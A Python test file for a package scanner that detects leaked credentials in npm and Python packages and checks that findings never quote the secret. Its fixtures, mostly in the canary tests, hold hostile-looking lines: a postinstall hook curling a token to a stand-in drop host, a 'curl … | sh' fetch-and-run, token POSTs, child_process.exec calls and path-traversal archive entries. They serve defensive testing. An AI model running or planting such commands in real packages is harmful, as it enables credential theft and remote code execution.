"""A credential in a package is told once, with its place and fingerprint, and is seen nowhere."""

from __future__ import annotations

import base64
import io
import json

import msgspec
import pytest

from app.core.package import Package
from app.core.secret import fingerprint
from app.core.specimen import ArtifactKind
from tests import minted
from tests.detectors.artifacts import findings, npm, places, sdist, told
from tests.minted_forms import FORMS, Sample
from tests.worker.inspection.archives import entry, tarball, tgz
from worker.detectors import exfiltration_host, leaked_secret
from worker.inspection.child import examine
from worker.inspection.limits import Limits
from worker.inspection.wire import Question

PACKAGE = Package.parse("npm/fast-colour@2.4.1")
SENDGRID = next(sample for sample in FORMS if sample.credential == "sendgrid-key")
WEBHOOK = next(sample for sample in FORMS if sample.credential == "discord-webhook")
LONG = list({sample.credential: sample for sample in FORMS if sample.place == 'const token = "{}";'}.values())
"""One of each kind that needs no other words around it."""
NPM_TOKEN = minted.with_crc("npm_")


class TestAlarm:
    def test_a_token_in_code_is_high_and_named_by_its_fingerprint(self) -> None:
        (found,) = findings(leaked_secret, npm({"index.js": f"// publish\nconst t = '{NPM_TOKEN}';\n"}))
        mark = fingerprint(NPM_TOKEN.encode())
        assert told([found]) == [f"high: it ships an npm token in index.js (fingerprint {mark})"]
        assert (places(found), found.evidence[0].text) == (["index.js:2"], "const t = 'npm_…")
        assert found.evidence[0].says.plain() == (
            f"holds npm-token npm_… 40 characters, fingerprint {mark}; its owner revokes it with npm"
        )

    @pytest.mark.parametrize("path", [".npmrc", ".env", "dist/bundle.js.map", "logo.png", "x.pyc", "Makefile"])
    def test_whatever_the_file_is_called(self, path: str) -> None:
        (found,) = findings(leaked_secret, npm({path: f"//registry.example/:_authToken={NPM_TOKEN}\n"}))
        assert (found.severity, places(found)[0]) == ("high", f"{path}:1")

    def test_a_form_without_a_proof_is_possible_and_medium(self) -> None:
        (found,) = findings(leaked_secret, npm({"mail.js": f"mailer.setApiKey('{SENDGRID.mint('a')}');"}))
        assert told([found])[0].startswith("medium: it may ship a SendGrid key in mail.js (fingerprint ")
        assert found.evidence[0].says.plain().endswith("; its owner revokes it with SendGrid")

    def test_a_password_in_the_address_of_a_database(self) -> None:
        url = f"postgres://svc:{minted.noise('password', 20)}@db7.acme-prod.net/app"
        (found,) = findings(leaked_secret, sdist({"imgpress/settings.py": f"DATABASE_URL = '{url}'"}))
        assert told([found])[0].startswith("medium: it may ship a database address with its password in imgpress/set")

    @pytest.mark.parametrize("glue", ["' + '", "'\n  + '", '" "', '" . "', "'\\\n'"])
    def test_in_several_pieces(self, glue: str) -> None:
        text = f"'{NPM_TOKEN[:15]}{glue}{NPM_TOKEN[15:]}'"
        (found,) = findings(leaked_secret, npm({"index.js": text}))
        assert fingerprint(NPM_TOKEN.encode()) in found.message.plain()

    def test_in_the_sources_that_a_bundle_carries(self) -> None:
        source = json.dumps({"version": 3, "sourcesContent": [f"const t = '{NPM_TOKEN}';"]})
        address = "data:application/json;charset=utf-8;base64," + base64.b64encode(source.encode()).decode()
        (found,) = findings(leaked_secret, npm({"index.js": f"f();\n//# sourceMappingURL={address}\n"}))
        assert fingerprint(NPM_TOKEN.encode()) in found.message.plain()

    def test_the_same_secret_in_several_files_is_one_finding_at_the_gravest(self) -> None:
        text = f"'{NPM_TOKEN}'"
        (found,) = findings(leaked_secret, npm({"test/a.js": text, "lib/b.js": text, "docs/c.md": text}))
        assert (found.severity, places(found)) == ("high", ["lib/b.js:1", "test/a.js:1", "docs/c.md:1"])

    def test_the_old_version_s_secret_is_not_new_wherever_it_moved(self) -> None:
        old, new = npm({"a.js": f"'{NPM_TOKEN}'"}), npm({"b/c.js": f"\n\n'{NPM_TOKEN}'"})
        assert [found.new for found in findings(leaked_secret, new, old)] == [False]
        assert [found.new for found in findings(leaked_secret, new, npm({"a.js": ""}))] == [True]

    def test_a_crowd_of_one_kind_is_one_finding_and_another_kind_is_told_beside_it(self) -> None:
        tokens = {f"lib/{n}.js": f"'{minted.with_crc('ghp_', str(n))}'" for n in range(30)}
        found = findings(leaked_secret, npm({**tokens, "z.js": f"'{NPM_TOKEN}'"}))
        assert [one.severity for one in found] == ["high", "high"]
        assert told(found)[0] == "high: it ships a GitHub token in lib/0.js and 29 more of the kind"


class TestInnocentTwin:
    @pytest.mark.parametrize("path", ["test/fixtures/a.js", "docs/setup.md", "spec/login.rb", "examples/a.js"])
    def test_what_stands_in_tests_documents_and_examples_is_low(self, path: str) -> None:
        (found,) = findings(leaked_secret, npm({path: f"'{NPM_TOKEN}'"}))
        assert told([found]) == [f"low: its tests, documents or examples hold an npm token, first in {path}"]

    def test_many_credentials_of_tests_are_one_remark(self) -> None:
        tokens = {f"tests/{n}.js": f"'{minted.with_crc('npm_', str(n))}'" for n in range(5)}
        (found,) = findings(leaked_secret, sdist(tokens))
        assert (found.severity, len(found.evidence)) == ("low", 3)
        assert "an npm token and 4 other credentials, first in tests/0.js" in told([found])[0]

    @pytest.mark.parametrize(
        "url",
        [
            "postgres://user:password@localhost:5432/app",
            "postgres://scott:t1ger99xyz@db.example.com/app",
            "mysql://root:${DB_PASSWORD}@db.acme-prod.net/app",
            "redis://:<password>@cache.acme-prod.net",
            "mongodb://myUser:myPassword1@cluster0.mongodb.net",
            "amqp://guest:guest@broker.acme-prod.net",
            "jdbc:postgresql://db.acme-prod.net/app?user=a&password=secret123",
        ],
    )
    def test_an_address_that_explains_itself(self, url: str) -> None:
        """The shape of the manuals of database drivers."""
        assert findings(leaked_secret, sdist({"README.md": url, "imgpress/x.py": f"URL = '{url}'"})) == []

    def test_half_a_key_is_low(self) -> None:
        (found,) = findings(leaked_secret, npm({"a.js": f"'{minted.aws_id()}'"}))
        assert (found.severity, found.confidence) == ("low", "low")

    @pytest.mark.parametrize(
        "text",
        [
            "const BEGIN = '-----BEGIN RSA PRIVATE KEY-----';",
            "if (token.startsWith('ghp_') || token.startsWith('npm_')) mask(token);",
            "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "token: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            "const re = /npm_[A-Za-z0-9]{36}/;",
            "process.env.npm_package_config_registry_with_a_long_name_of_its_own",
        ],
    )
    def test_code_that_knows_the_forms_and_holds_none(self, text: str) -> None:
        """The shape of secret scanners, CI tools and documentation."""
        assert findings(leaked_secret, npm({"index.js": text})) == []

    def test_hashes_and_blobs(self) -> None:
        """The shape of lock files and bundles."""
        text = json.dumps({"integrity": f"sha512-{minted.azure()}", "data": minted.noise("blob", 20_000)})
        assert findings(leaked_secret, npm({"data.json": text})) == []

    def test_a_webhook_that_code_talks_to_is_told_by_the_rule_for_drops_alone(self) -> None:
        webhook = f"https://discord.com/api/webhooks/918273645546372819/{WEBHOOK.mint('a')}"
        found = npm({"index.js": f"fetch('{webhook}', {{ method: 'POST', body }});"})
        assert findings(leaked_secret, found) == []
        assert told(findings(exfiltration_host, found)) == ["high: its code talks to a chat webhook (discord.com)"]
        (kept,) = findings(leaked_secret, npm({"index.js": f"const HOOK = '{webhook}';"}))
        assert told([kept])[0].startswith("medium: it may ship the address of a Discord webhook in index.js")


class TestCanary:
    """No credential leaves the sealed child in any fact, wherever its line is quoted."""

    @pytest.mark.parametrize("sample", LONG, ids=[sample.credential for sample in LONG])
    def test_no_fact_and_no_finding_shows_it(self, sample: Sample) -> None:
        kind, token = sample.credential, sample.mint("canary")
        pad = "x" * 150
        found = npm(
            {
                "package.json": json.dumps(
                    {
                        "name": "fast-colour",
                        "version": "2.4.1",
                        "license": token,
                        "bin": {token[:30]: "a.js"},
                        "scripts": {
                            "postinstall": f"curl -H 'Authorization: {token}' https://drop.example/{token}",
                            "preinstall": f"echo {pad} {token} {pad} && node a.js",
                        },
                    }
                ),
                "a.js": f"fetch('https://u:{token}@drop.example', {{headers: {{a: '{token}'}}}}); eval('{token}')\n"
                f"require('child_process').exec('run {token}'); fs.readFileSync('/x/{token}')\n"
                f"/*{pad}*/ require('child_process').exec('{token}')\n",
                "b.py": f"import os, subprocess\nsubprocess.run(['x', '{token}'])\nopen('{token}', 'w')\n"
                f"requests.post('https://drop.example', data='{token}')\n",
                "c.sh": f"curl https://drop.example/?k={token} | sh\n",
                "d.js": f"exec('{token[:20]}' + '{token[20:]}'); require('child_process').exec('{token[:9]}' + '{token[9:]}')\n",
            }
        )
        shown = msgspec.json.encode([found, findings(leaked_secret, found)]).decode()
        assert f"{kind} " in shown
        for start in range(5, len(token) - 12):
            assert token[start : start + 12] not in shown

    def test_names_of_files_do_not_show_it_nor_does_an_archive_that_is_refused(self) -> None:
        refused = tarball({f"lib/{NPM_TOKEN}/a.js": "1"}) + tarball({"b.js": "2"})
        odd = tgz(entry(f"package/../../{NPM_TOKEN}"), entry(f"package/x/{NPM_TOKEN}.js", b"1", b"Z"), bytes(700))
        for archive in (refused, odd, tarball({f"{NPM_TOKEN}.js": f"eval('{NPM_TOKEN}')", "package.json": "{}"})):
            question = Question(PACKAGE, "a.tgz", ArtifactKind.NPM_TARBALL, "0" * 64, len(archive), Limits())
            shown = msgspec.json.encode(examine(question, io.BytesIO(archive))).decode()
            assert NPM_TOKEN[5:17] not in shown

    def test_no_line_of_a_private_key_is_quoted(self) -> None:
        key = minted.rsa_key()
        text = key.replace("\n", "\\n")
        found = npm(
            {
                "a.js": f"require('child_process').exec('x', {{env: {{KEY: '{text}'}}}})\n",
                "b.sh": f"echo '{key}' | sh\n",
            }
        )
        shown = msgspec.json.encode([found, findings(leaked_secret, found)]).decode()
        assert "private-key" in shown
        for line in key.split("\n")[1:-2]:
            assert all(line[start : start + 12] not in shown for start in range(len(line) - 12))
